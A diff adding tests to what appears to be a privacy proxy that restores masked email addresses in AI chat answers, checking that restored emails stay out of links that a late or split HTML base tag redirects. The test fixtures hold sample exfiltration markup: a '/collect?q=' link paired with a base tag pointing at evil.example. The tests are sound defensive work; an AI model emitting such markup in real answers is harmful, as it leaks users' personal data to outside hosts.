@@ -2,6 +2,7 @@ import test from 'ava';
 import * as fc from 'fast-check';
 import { hostsIn } from '../../src/personal-data/placeholders/named-host.ts';
 import { restoredBody } from '../../src/personal-data/restored-body.ts';
+import { chatCompletionsTextMap } from '../../src/protocols/chat/text-map.ts';
 import { messagesTextMap } from '../../src/protocols/messages/text-map.ts';
 import { responsesTextMap } from '../../src/protocols/responses/text-map.ts';
 import { restoredStream } from '../_support/passing-stream.ts';
@@ -197,11 +198,34 @@ test('a link that is divided over texts which a client joins is one link', async
   t.deepEqual([...conversation.kept.counts], [['EMAIL', 1]], 'what stays is counted once');
 });
 
+test('a base behind a link is read before it in a text that stands alone, and in an answer that is a text', async (t) => {
+  const restoredIn = async (host: string, isWhole: boolean) => {
+    const { conversation, written } = await conversed([], {}, ['x.example']);
+    const page = written(`<a href="/collect?q=M!">x</a> M! <base href="https://${host}/">`);
+    const body = isWhole
+      ? JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: page } }] })
+      : page;
+    const shown = restoredBody({ shape: chatCompletionsTextMap.answer }, Buffer.from(body), conversation).toString();
+    t.true(shown.includes(`</a> ${mail}`), shown);
+    return shown.includes(`q=${mail}`);
+  };
+  for (const isWhole of [true, false]) {
+    t.false(await restoredIn('evil.example', isWhole));
+    t.true(await restoredIn('x.example', isWhole));
+  }
+});
+
 test('a base behind a link of a whole answer is read before it, in the same text and in another', async (t) => {
   const { conversation, written } = await conversed([]);
   const link = written('<a href="/collect?q=M!">x</a> M!');
   const base = '<base href="https://evil.example/">';
-  for (const texts of [[`${link} ${base}`], [link, base], [base.replace('base', 'BASE'), link]]) {
+  for (const texts of [
+    [`${link} ${base}`],
+    [link, base],
+    [base.replace('base', 'BASE'), link],
+    [`${link} <ba`, base.slice(3)],
+    [`${link} <`, base.slice(1)],
+  ]) {
     const body = JSON.stringify({ content: texts.map((text) => ({ type: 'text', text })) });
     const shown = restoredBody({ shape: messagesTextMap.answer }, Buffer.from(body), conversation).toString();
     t.true(shown.includes(written('q=M!')) && shown.includes(`</a> ${mail}`), shown);
